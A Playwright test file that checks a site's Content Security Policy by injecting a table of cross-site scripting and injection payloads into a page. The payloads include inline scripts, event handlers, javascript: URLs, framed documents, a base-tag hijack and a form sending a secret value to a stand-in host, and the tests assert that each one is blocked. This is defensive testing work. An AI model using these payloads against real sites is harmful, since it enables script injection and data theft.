import type { Page } from '@playwright/test';
import { CspEvaluator } from 'csp_evaluator/dist/evaluator.js';
import { Severity } from 'csp_evaluator/dist/finding.js';
import { CspParser } from 'csp_evaluator/dist/parser.js';
import { CONTENT_SECURITY_POLICY, NEEDS, POLICY_HEADER, toPolicy } from '../../../src/metadata/policy.ts';
import { expect, test } from '../fixtures.ts';
import { KINDS, PAGES, readBuilt } from '../site.ts';
import { CONFIGURED, explainMissing, startConfigured, type AtWork } from './configured.ts';

const TAKEN = "document.title='taken'";
const DATA_SCRIPT = `data:text/javascript,${TAKEN}`;

/** Markup that has got into a page, and what it must not bring about: a script that runs, a form or frame that goes elsewhere, a style. */
const ATTACKS: Record<string, string> = {
  'an inline script': `<script>${TAKEN}</script>`,
  'an inline module': `<script type="module">${TAKEN}</script>`,
  'a script in an address of data': `<script src="${DATA_SCRIPT}"></script>`,
  'a script of another host': '<script src="http://127.0.0.1:9/evil.js"></script>',
  'a handler of an error': `<img src="nothing.png" onerror="${TAKEN}">`,
  'a handler that needs no reader': `<details open ontoggle="${TAKEN}"><summary>More</summary></details>`,
  'a handler in a drawing': `<svg onload="${TAKEN}"></svg>`,
  'a script in a drawing': `<svg><script>${TAKEN}</script></svg>`,
  'an address that is a script': `<a id="attack" href="javascript:${TAKEN};void 0">More</a>`,
  'a frame with a document of its own': `<iframe srcdoc="<script>parent.${TAKEN}</script>"></iframe>`,
  'a frame that is a script': `<iframe src="javascript:parent.${TAKEN}"></iframe>`,
  'an object that is a script': `<object data="data:text/html,<script>top.${TAKEN}</script>"></object>`,
  'an embedded page': `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${TAKEN}'/>">`,
  'another base for all addresses': '<base href="http://127.0.0.1:9/">',
  'a form that sends words elsewhere': `<form action="http://127.0.0.1:9/"><button id="attack" name="word" value="secret">More</button></form>`,
  'a form whose button is a script': `<form><button id="attack" formaction="javascript:${TAKEN}">More</button></form>`,
  'a style of its own': '<style>body { background: rgb(1, 2, 3) !important }</style>',
  'a style in an element': '<p id="styled" style="background: rgb(1, 2, 3)">More</p>',
  'a style sheet of another host': '<link rel="stylesheet" href="http://127.0.0.1:9/evil.css">',
  'a picture that tells another host': '<img src="http://127.0.0.1:9/seen.gif">',
  'an import map': `<script type="importmap">{"imports":{"x":"${DATA_SCRIPT}"}}</script><script type="module">import 'x'</script>`,
  'a list of rules that fetch pages ahead':
    '<script type="speculationrules">{"prefetch":[{"urls":["http://127.0.0.1:9/"]}]}</script>',
  'a refresh into a script': `<meta http-equiv="refresh" content="0; url=javascript:${TAKEN}">`,
};

/** Show the about page with markup put into it, as if a server or a colleague's program had been taken over. */
async function attack(page: Page, address: string, markup: string): Promise<void> {
  await page.route('**/about/', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/(<main[^>]*>)/, (main) => `${main}${markup}`);
    await route.fulfill({ response, body });
  });
  await page.goto(`${address}about/`, { waitUntil: 'load' });
}

const origin = (url: string): string => new URL(url).origin;

test.describe('under attack', () => {
  const [server] = CONFIGURED;
  test.skip(
    !server || explainMissing(server.program) !== '',
    'nginx is not on this machine: install the package nginx.',
  );
  let served: AtWork;
  test.beforeAll(async () => {
    if (server) served = await startConfigured(server, '/');
  });
  test.afterAll(async () => {
    await served.stop();
  });

  for (const [name, markup] of Object.entries(ATTACKS)) {
    test(`blocks ${name}`, async ({ page, faults }) => {
      const answered: string[] = [];
      page.on('requestfinished', (request) => answered.push(origin(request.url())));
      await attack(page, served.address, markup);
      const before = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      await page
        .locator('#attack')
        .click({ timeout: 500, noWaitAfter: true })
        .catch(() => undefined);
      await page.waitForTimeout(150);
      expect(await page.title()).not.toBe('taken');
      expect(before).toBe('rgb(251, 251, 248)');
      expect(
        await page
          .locator('#styled')
          .evaluateAll((all) => all.map((one) => getComputedStyle(one).backgroundColor)),
      ).not.toContain('rgb(1, 2, 3)');
      expect(origin(page.url())).toBe(origin(served.address));
      expect(await page.evaluate(() => new URL(document.baseURI).origin)).toBe(origin(served.address));
      expect([...new Set(answered)]).toEqual([origin(served.address)]);
      faults.length = 0;
    });
  }

  test('notices an attack on a page without the policy', async ({ page, faults }) => {
    await page.route('**/about/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text())
        .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, '')
        .replace('</body>', `${ATTACKS['an inline script'] ?? ''}</body>`);
      await route.fulfill({ status: 200, contentType: 'text/html', body });
    });
    await page.goto(`${served.address}about/`);
    expect(await page.title()).toBe('taken');
    faults.length = 0;
  });

  test('is not shown inside another page', async ({ page, faults }) => {
    await page.route('**/frame.html', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${served.address}"></iframe>` }),
    );
    await page.goto(`${served.address}frame.html`);
    await expect.poll(() => faults.join()).toContain('frame-ancestors');
    faults.length = 0;
  });

  for (const [kind, path] of Object.entries(KINDS)) {
    test(`breaks no rule of its own: ${kind}`, async ({ page }) => {
      const answer = await page.goto(`${served.address}${path}`, { waitUntil: 'networkidle' });
      expect(answer?.headers()['content-security-policy']).toBe(POLICY_HEADER);
    });
  }
});

/** What may be wrong with scripts of the own site: there are no files of readers, and none that answers with what it was asked. */
const OWN_SCRIPTS = "script-src 'self'";

test('has no weakness, to an independent judge', () => {
  for (const policy of [CONTENT_SECURITY_POLICY, POLICY_HEADER]) {
    const findings = new CspEvaluator(new CspParser(policy).csp).evaluate();
    const grave = findings
      .filter(({ severity }) => severity < Severity.INFO)
      .map(({ severity, directive, value }) => `${String(severity)} ${directive} ${value ?? ''}`);
    expect(grave.filter((finding) => finding !== `${String(Severity.MEDIUM_MAYBE)} ${OWN_SCRIPTS}`)).toEqual(
      [],
    );
  }
});

test('is judged by one who sees a weak policy', () => {
  const weak = `${toPolicy({ ...NEEDS, scripts: true })}; script-src 'unsafe-inline' *`.replace(
    "script-src 'self'; ",
    '',
  );
  const findings = new CspEvaluator(new CspParser(weak).csp).evaluate();
  expect(findings.some(({ severity }) => severity === Severity.HIGH)).toBe(true);
});

test('opens no door that no page goes through', () => {
  const pages = PAGES.map(readBuilt).join('\n');
  expect({ scripts: NEEDS.scripts, forms: NEEDS.forms }).toEqual({
    scripts: /<script [^>]*src=/.test(pages),
    forms: /<form\b/.test(pages),
  });
});
